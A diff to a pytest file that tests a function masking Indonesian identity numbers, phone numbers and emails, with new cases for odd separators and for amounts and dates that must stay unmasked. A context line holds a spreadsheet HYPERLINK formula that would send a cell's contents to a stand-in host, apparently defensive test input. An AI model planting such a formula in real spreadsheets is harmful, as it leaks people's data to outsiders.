@@ -25,6 +25,15 @@ FORMULA = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
     ("KPJ 24012345678", "KPJ [nomor disamarkan]"),
     ("surel siti.aminah@example.co.id ya", "surel [surel disamarkan] ya"),
     ("Klaim JKM an. Slamet NIK 6107142606740024.csv", "Klaim JKM an. Slamet NIK [nomor disamarkan].csv"),
+    # a NIK stored as a number and shown in thousands style, and other separators
+    ("NIK 6.107.014.512.900.003, lihat", "NIK [nomor disamarkan], lihat"),
+    ("6107/0145/1290/0003", "[nomor disamarkan]"),
+    ("6107_0145_1290_0003", "[nomor disamarkan]"),
+    ("6107,0145,1290,0003", "[nomor disamarkan]"),
+    ("6107  0145\u2009 1290 0003", "[nomor disamarkan]"),
+    ("HP 0812  3456  7890", "HP [telepon disamarkan]"),
+    ("kantor (0561) 692123", "kantor [telepon disamarkan]"),
+    ("kantor 021-5551234", "kantor [telepon disamarkan]"),
 ])
 def test_personal_numbers_phones_and_emails_are_masked(text, expected):
     assert screen.mask(text) == expected
@@ -33,6 +42,7 @@ def test_personal_numbers_phones_and_emails_are_masked(text, expected):
 
 @pytest.mark.parametrize("text", [
     "Petani", "61.07.14.2001", "Rp 1.234.567.890", "2025-09-01", "RT 001/RW 002", "123456789",
+    "Rp2.455.286.400", "Rp1.842.237.600,50", "18/09/2025", "12,5 %", "15.449 peserta",
     "3e46de64fa5451c6f210aa95185e052aa93992e4e641edb1229ecf8ca51cb723", "MONEV-61.07-202509-3FA939A000",
 ])
 def test_codes_amounts_dates_and_digests_are_left_alone(text):
